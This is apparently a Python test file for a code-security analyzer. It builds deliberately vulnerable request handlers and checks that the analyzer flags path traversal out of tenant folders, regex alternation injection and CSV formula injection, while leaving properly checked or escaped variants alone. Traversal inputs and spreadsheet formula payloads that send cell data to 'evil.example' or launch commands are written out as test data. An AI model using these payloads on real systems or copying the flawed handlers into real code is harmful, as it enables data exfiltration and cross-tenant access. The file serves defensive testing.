"""What a fifty-eighth set of everyday programs by others showed, with twins of each."""

from __future__ import annotations

from pathlib import Path

from support.guard_cases import assert_blocked, assert_passes, each_turn, of_turn

TURNS = 4
EACH_TURN = each_turn(TURNS)


STORE = """
import asyncio, functools, io, os, posixpath, re, tempfile, zipfile
import urllib.request
from pathlib import Path, PurePosixPath
from urllib.parse import urljoin, urlsplit
ROOT = tempfile.mkdtemp()
for key in ("tenants/acme/docs/a.txt", "tenants/globex/docs/g.txt", "system/keys.json"):
    place = os.path.join(ROOT, *key.split("/"))
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "w") as f:
        f.write(key)
def walked(path):
    stack = []
    for step in path.split("/"):
        if step in ("", "."):
            continue
        if step == "..":
            if stack:
                stack.pop()
        else:
            stack.append(step)
    return "/".join(stack)
def folded(path):
    def step(done, one):
        return done[:-1] if one == ".." else done + [one]
    return "/".join(functools.reduce(step, PurePosixPath(path).parts, []))
def read(place):
    try:
        with open(place) as f:
            return f.read()
    except OSError:
        return None
def archive():
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as z:
        for key in ("tenants/acme/docs/a.txt", "tenants/globex/docs/g.txt", "system/keys.json"):
            z.writestr(key, key)
    return zipfile.ZipFile(io.BytesIO(held.getvalue()))
def handler(event, context):
    tenant = event["tenant"]
    if tenant not in ("acme", "globex"):
        return None
    folder, name = event.get("folder", "docs"), event["name"]
    key = {key}
    {check}
    return {opened}
"""
KEYS = {
    "posix": 'posixpath.normpath("/".join(["tenants", tenant, folder.strip("/"), name]))',
    "format": 'os.path.normpath(f"tenants/{tenant}/{folder}/{name}")',
    "joined": 'os.path.normpath(os.path.join("tenants", tenant, folder, name))',
    "absolute": 'os.path.abspath("/tenants/%s/%s/%s" % (tenant, folder, name)).lstrip("/")',
    "real": 'os.path.realpath(f"/tenants/{tenant}/{folder}/{name}")[1:]',
    "join of joined": 'posixpath.normpath(posixpath.join("tenants", tenant, folder + "/" + name))',
    "urljoin": 'urljoin(f"tenants/{tenant}/{folder}/", name)',
    "urljoin of a host": (
        'urlsplit(urljoin(f"http://x/tenants/{tenant}/{folder}/", name)).path.lstrip("/")'
    ),
    "stack": 'walked(f"tenants/{tenant}/{folder}/{name}")',
    "stack of joined": 'walked("/".join(("tenants", tenant, folder, name)))',
    "relative": 'os.path.relpath(f"/tenants/{tenant}/{folder}/{name}", "/")',
    "path": 'Path("/tenants", tenant, folder, name).resolve().relative_to("/").as_posix()',
    "slash": 'os.path.normpath(Path("tenants") / tenant / folder / name)',
    "reduced": 'folded(f"tenants/{tenant}/{folder}/{name}")',
    "bytes": 'os.path.normpath(f"tenants/{tenant}/{folder}/{name}".encode()).decode()',
}
OPENED = {
    "parts": 'read(os.path.join(ROOT, *key.lstrip("/").split("/")))',
    "joined": "read(os.path.join(ROOT, key))",
    "format": 'read(f"{ROOT}/{key}")',
    "path": "read(Path(ROOT) / key)",
    "member": "archive().read(key) if key in archive().namelist() else None",
    "url": 'urllib.request.urlopen("http://store.example/bucket/" + key, timeout=1)',
}
CLIMBING = (
    {"tenant": "acme", "name": "../../globex/docs/g.txt"},
    {"tenant": "acme", "name": "g.txt", "folder": "./../globex/docs"},
    {"tenant": "acme", "name": "keys.json", "folder": "../../system"},
)
STAYING = (
    {"tenant": "acme", "name": "a.txt"},
    {"tenant": "acme", "name": "x/../a.txt"},
    {"tenant": "acme", "name": "r..v2.csv", "folder": "docs//2025/./q1"},
    {"tenant": "acme", "name": "O'Neil's (1) notes.txt"},
)
CHECKS = (
    'if not key.startswith(f"tenants/{tenant}/"):\n        return 403',
    'if not PurePosixPath(key).is_relative_to(f"tenants/{tenant}"):\n        return 403',
    'if key.split("/")[:2] != ["tenants", tenant]:\n        return 403',
    'if posixpath.commonpath([key, f"tenants/{tenant}"]) != f"tenants/{tenant}":\n        return 403',
)


def _store(key: str, opened: str, check: str = "pass") -> str:
    return STORE.replace("{key}", key).replace("{opened}", opened).replace("{check}", check)


def climbing() -> dict[str, tuple[str, object]]:
    """Return programs that resolve keys, each with a store or two and events that climb."""
    files = [OPENED[name] for name in ("parts", "joined", "format", "path")]
    cases: dict[str, tuple[str, object]] = {}
    for number, (name, key) in enumerate(KEYS.items()):
        for turn, event in enumerate(CLIMBING):
            # `urljoin` is given a folder as it is; and of steps that a library has taken apart,
            # without a folder of the code's left, nothing leads back to what they were of.
            if ("urljoin" in name and "folder" in event) or (name == "reduced" and turn == 2):
                continue
            code = _store(key, files[(number + turn) % len(files)])
            cases[f"{name} {turn}"] = (code, event)
    for where in ("member", "url"):
        for name in ("posix", "format", "stack", "urljoin", "relative"):
            cases[f"{name} {where}"] = (_store(KEYS[name], OPENED[where]), CLIMBING[0])
    return cases


def staying() -> dict[str, tuple[str, object]]:
    """Return the same with events that stay, and programs that look before they open."""
    files = [OPENED[name] for name in ("parts", "joined", "format", "path")]
    cases: dict[str, tuple[str, object]] = {}
    for number, (name, key) in enumerate(KEYS.items()):
        for turn, event in enumerate(STAYING):
            cases[f"{name} {turn}"] = (_store(key, files[(number + turn) % len(files)]), event)
        check = CHECKS[number % len(CHECKS)]
        for turn, event in enumerate(CLIMBING):
            code = _store(key, files[(number + turn) % len(files)], check)
            cases[f"checked {name} {turn}"] = (code, event)
    cases["member"] = (_store(KEYS["posix"], OPENED["member"]), STAYING[0])
    return cases


@EACH_TURN
def test_keys_that_climb_out_of_their_folder_before_they_are_resolved(
    tmp_path: Path, turn: int
) -> None:
    assert_blocked(tmp_path, of_turn(climbing(), turn, TURNS), {"path", "url"}, ())


@EACH_TURN
def test_keys_that_stay_in_their_folder_or_are_looked_at(tmp_path: Path, turn: int) -> None:
    assert_passes(tmp_path, of_turn(staying(), turn, TURNS), ())


PATTERN = """
import re, sqlite3
from dataclasses import dataclass
BOOK = (("acme", "Ann Lee", "ann@acme.example"), ("globex", "Cleo", "cleo@globex.example"))
ROWS = [f"{tenant}|{name}|{mail}" for tenant, name, mail in BOOK]
class Finder:
    def __init__(self, source):
        self.rx = re.compile(source, re.I)
    def __call__(self):
        return [row for row in ROWS if self.rx.search(row)]
def by_sql(source):
    db = sqlite3.connect(":memory:")
    db.create_function("REGEXP", 2, lambda p, v: re.search(p, v) is not None)
    db.execute("create table c(v)")
    db.executemany("insert into c values (?)", [(row,) for row in ROWS])
    return db.execute("select v from c where v regexp ?", (source,)).fetchall()
def handler(event, context):
    tenant, q = "acme", {q}
    if event.get("sep"):
        print("sep", len(event["sep"]))
    rx = {rx}
    return {found}
"""
VALUES = ('event["q"]', '" ".join(event["q"].split())', 'event["q"].strip()', 'event["q"].lower()')
SOURCES = (
    'f"^{tenant}\\\\|[^|]*{q}[^|]*\\\\|"',
    '"^" + tenant + r"\\|" + q',
    'r"^%s\\|.*%s.*$" % (tenant, q)',
    'r"^{}\\|[^|]*{}[^|]*\\|".format(tenant, q)',
    '"".join(["^", tenant, "[|]", q])',
    'f"(?:{tenant})[|](?:{q})"',
)
FINDS = (
    "[row for row in ROWS if re.search(rx, row)]",
    "[row for row in ROWS if re.match(rx, row, re.I)]",
    "Finder(rx)()",
    "by_sql(rx)",
    "re.findall(rx, ROWS[1])",
)
ALTERNATIVES = ("|", "a|", "|b", ")|(", "a*|", "(?:)|", "||", "x|globex", "|.", "| ")


def alternatives(values: tuple[str, ...]) -> dict[str, tuple[str, object]]:
    """Return programs with a pattern each, and these texts in them."""
    cases: dict[str, tuple[str, object]] = {}
    for number, value in enumerate(values):
        for turn in range(3):
            code = PATTERN.replace("{q}", VALUES[(number + turn) % len(VALUES)])
            # What ends a group of the code's is no pattern where there is none.
            rx = SOURCES[-1] if value == ")|(" else SOURCES[(number * 3 + turn) % len(SOURCES)]
            code = code.replace("{rx}", rx)
            code = code.replace("{found}", FINDS[(number + 2 * turn) % len(FINDS)])
            cases[f"{value!r} {turn}"] = (code, {"q": value})
    return cases


PLAIN = ("ann", "Ann Lee", "O'Neil", "a.b", "ann@acme", "x-y", "", "Ann  Lee ")
ESCAPED = (
    'f"^{tenant}\\\\|[^|]*{re.escape(q)}"',
    '"|".join(map(re.escape, [q, "ann"]))',
    '"^(?:" + "|".join(["ann", "bob"]) + ")[|]"',
    'r"^acme\\|" + re.escape(q) + "|" + "^none$"',
    'f"Ann[{q}]Lee" if q in ("|", ";") else "a"',
    '"[" + q[:1] + "]acme"',
)


def harmless_patterns() -> dict[str, tuple[str, object]]:
    """Return the same with words, with values that are escaped, and with the sign elsewhere."""
    cases = alternatives(PLAIN)
    for number, rx in enumerate(ESCAPED):
        for value in ("|", "a|b", "x|"):
            code = PATTERN.replace("{q}", VALUES[number % 4]).replace("{rx}", rx)
            cases[f"escaped {value} {rx}"] = (code.replace("{found}", FINDS[0]), {"q": value})
    for number, rx in enumerate((*SOURCES, *ESCAPED)):
        code = PATTERN.replace("{q}", VALUES[number % 4]).replace("{rx}", rx)
        code = code.replace("{found}", FINDS[number % 5])
        cases[f"elsewhere {rx}"] = (code, {"q": "ann", "sep": "|"})
    return cases


def test_an_alternative_that_needs_nothing_of_what_the_code_demands(tmp_path: Path) -> None:
    assert_blocked(tmp_path, alternatives(ALTERNATIVES), {"regex"}, ())


def test_words_and_escaped_signs_in_patterns(tmp_path: Path) -> None:
    assert_passes(tmp_path, harmless_patterns(), ())


TABLE = """
import csv, io
def handler(event, context):
    value = event["v"]
    rows = [{"id": 1, "name": " ".join([value, "x"]), "note": value}]
    out = io.StringIO()
    {write}
    return {"statusCode": 200, "headers": {"Content-Type": "text/csv"}, "body": out.getvalue()}
"""
WRITES = (
    'w = csv.DictWriter(out, ("id", "name", "note"), delimiter=";"); w.writerows(rows)',
    'csv.writer(out).writerow([r["name"] for r in rows])',
    'out.write("name;note\\n"); out.write(f\'{rows[0]["id"]};{rows[0]["name"]}\\n\')',
    'out.write("\\ufeff" + "id,name\\n" + "1," + rows[0]["name"] + "\\n")',
)
REACHING = (
    'WEBSERVICE("http://evil.example/"&B2)',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    'DDE("cmd","/C calc","x")',
    'IMAGE("http://evil.example/"&A1)',
    'FILTERXML(WEBSERVICE("http://evil.example"),"//a")',
    'RTD("server",,"x")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
    'EXEC("calc.exe")',
    'IMPORTDATA("http://evil.example/"&B2)',
    '1+WEBSERVICE("http://evil.example/"&B2)',
    '"a"&IMPORTFEED("http://evil.example/"&B2)',
    "cmd|' /C calc'!A0",
)
BEGINNINGS = ("=", "+", "-", "@", "\ufeff=", " +", "\t=", "\n-", "\uff1d", "+ ", "=-", "@+")
NOTHING_REACHED = (
    *("+49 30 1234", "-5 %", "=)", "+1 (great)", "@ann", "-- none --", "- see HYPERLINK(s) below"),
    *("+1 for IMAGE (png) uploads", "@team: call (555) 1234", "-12.50", "=> see the mail", "+"),
    *("- item one\n- item two", "@ann (sales) calls", "+49 (0)30 1234 ext. 5", "= total ="),
    *("-10 % (summer)", "+1 http://shop.example", "=^.^=", "-Image(s) attached"),
)


def formulas() -> dict[str, tuple[str, object]]:
    """Return tables with a cell that goes on behind a function that reaches out."""
    cases: dict[str, tuple[str, object]] = {}
    for number, formula in enumerate(REACHING):
        for turn in range(4):
            begin = BEGINNINGS[(number + 3 * turn) % len(BEGINNINGS)]
            code = TABLE.replace("{write}", WRITES[(number + turn) % 2])
            if "," not in formula and '"' not in formula:
                code = TABLE.replace("{write}", WRITES[(number + turn) % 4])
            cases[f"{begin!r} {formula} {turn}"] = (code, {"v": begin + formula})
    return cases


def test_cells_that_go_on_behind_a_formula_that_reaches_out(tmp_path: Path) -> None:
    assert_blocked(tmp_path, formulas(), {"cell"}, ())


def no_formulas() -> dict[str, tuple[str, object]]:
    """Return the same tables with what people write."""
    return {
        f"{value} {number}": (TABLE.replace("{write}", WRITES[number % 4]), {"v": value})
        for number, value in enumerate(NOTHING_REACHED)
    }


def test_cells_that_begin_like_formulas_and_are_none(tmp_path: Path) -> None:
    assert_passes(tmp_path, no_formulas(), ())
